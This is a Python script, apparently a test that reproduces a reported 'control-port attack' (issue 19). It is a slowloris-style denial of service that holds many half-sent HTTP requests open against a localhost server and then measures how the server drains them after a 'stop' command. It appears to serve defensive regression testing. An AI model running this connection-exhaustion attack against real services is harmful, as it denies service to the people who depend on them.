#!/usr/bin/env python3
# The control-port attack of issue 19: keeps up to LIVE connections to 127.0.0.1:PORT open, each
# having sent half a request line and nothing more, opening a new one whenever the server closes
# one. Prints "live N opened N closed N" each second. On a line "stop" on stdin it opens no more,
# says "stopped" (it may have been opening connections for a while before it read the line), and
# prints "drained S" once the server has closed every connection (S: seconds since "stop"),
# or "held N" after 60 s. Run as another user: it needs no token, only the port.
import selectors, socket, sys, time

port, live_target = int(sys.argv[1]), int(sys.argv[2])
HALF = b"GET /v1/read?path=io.st"
sel = selectors.DefaultSelector()
sel.register(sys.stdin, selectors.EVENT_READ, None)
live, opened, closed, refused = 0, 0, 0, 0
stopping_at = None
last_report = 0.0

def connect():
    global live, opened, refused
    s = socket.socket()
    s.setblocking(True)
    try:
        s.connect(("127.0.0.1", port))
        s.sendall(HALF)
    except OSError:
        refused += 1
        s.close()
        return
    s.setblocking(False)
    sel.register(s, selectors.EVENT_READ, "conn")
    live += 1
    opened += 1

while True:
    if stopping_at is None:
        while live < live_target:
            connect()
    for key, _ in sel.select(timeout=0.05):
        if key.data is None:
            if sys.stdin.readline().strip() == "stop":
                stopping_at = time.monotonic()
                sel.unregister(sys.stdin)
                print("stopped", flush=True)
            continue
        s = key.fileobj
        try:
            gone = s.recv(4096) == b""
        except OSError:
            gone = True
        if gone:
            sel.unregister(s)
            s.close()
            live -= 1
            closed += 1
    now = time.monotonic()
    if now - last_report >= 1:
        last_report = now
        print(f"live {live} opened {opened} closed {closed} refused {refused}", flush=True)
    if stopping_at is not None:
        if live == 0:
            print(f"drained {now - stopping_at:.1f}", flush=True)
            break
        if now - stopping_at > 60:
            print(f"held {live}", flush=True)
            break
